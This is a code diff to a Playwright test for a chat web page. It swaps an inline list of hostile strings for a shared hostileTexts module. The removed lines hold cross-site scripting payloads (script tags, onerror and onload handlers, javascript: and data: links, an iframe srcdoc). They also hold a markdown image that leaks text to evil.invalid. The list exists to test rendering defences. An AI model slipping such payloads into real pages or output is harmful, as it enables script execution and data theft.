@@ -6,6 +6,7 @@ import { after, before, describe, test } from "node:test";
 import type { Locator, Page, Request } from "playwright-core";
 import { skipWithoutBrowser as skip } from "../support/browser.ts";
 import { type ConsoleUnderTest, startConsole } from "../support/console.ts";
+import { hostileTexts } from "../support/hostile-texts.ts";
 import { only } from "../support/openai-server.ts";
 import { json, until } from "../support/server.ts";
 import { type DatasetAnswer, upload } from "../support/upload.ts";
@@ -20,19 +21,6 @@ interface Told {
     readonly total_tokens: number;
   };
 }
-
-/** Texts that would run, load or break something if they were taken for more than text. */
-const hostile = [
-  "<img src=https://evil.invalid/a.png onerror=\"globalThis.ran='img'\">",
-  "<script>globalThis.ran='script'</script>",
-  "![look](https://evil.invalid/pixel.png?what=was-said)",
-  "[press](javascript:globalThis.ran='link')",
-  "[press](data:text/html,<script>globalThis.ran='data'</script>)",
-  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe><style>*{display:none}</style>',
-  "[ok](https://example.invalid/page) and `<b>code</b>` and &lt;i&gt;",
-  '# " onmouseover="globalThis.ran=1',
-  "| a | b |\n|---|---|\n| <svg/onload=globalThis.ran=1> | {{globalThis.ran=1}} |",
-];
 
 describe("the chat page", { skip }, () => {
   let console_: ConsoleUnderTest;
@@ -278,7 +266,7 @@ describe("the chat page", { skip }, () => {
 
   test("hostile words, the user's and the model's, never run and never load", async () => {
     await page.getByRole("button", { name: "New conversation" }).press("Enter");
-    const words = hostile.join("\n\n");
+    const words = hostileTexts.join("\n\n");
     // The model says them because a grammar allows nothing else; the page itself has no field for one.
     await page.route(
       "**/v1/chat/completions",
